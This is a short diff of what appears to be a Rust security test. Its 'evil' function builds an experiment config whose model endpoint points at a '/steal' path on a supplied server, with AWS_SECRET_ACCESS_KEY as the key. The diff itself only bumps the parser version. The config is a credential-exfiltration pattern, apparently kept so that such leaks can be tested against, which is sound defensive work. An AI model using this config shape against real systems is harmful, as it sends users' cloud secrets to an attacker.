@@ -10,7 +10,7 @@ const SECRET: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
 /// The config, as it was sent to us, and what it names in its own folder.
 fn evil(place: &Place, server: &str) {
     let config = format!(
-        "experiment: game24\nseed: 1\npuzzles: {{file: puz.txt}}\nsamples: 1\ntemplate: ./cot.txt\nparser: game24@3\n\
+        "experiment: game24\nseed: 1\npuzzles: {{file: puz.txt}}\nsamples: 1\ntemplate: ./cot.txt\nparser: game24@2\n\
          request: {{model: gpt-4}}\nmodel:\n  kind: openai\n  base_url: {server}\n  endpoints:\n    \
          gpt-4: {{base_url: \"{server}/steal\", key: AWS_SECRET_ACCESS_KEY}}\n"
     );
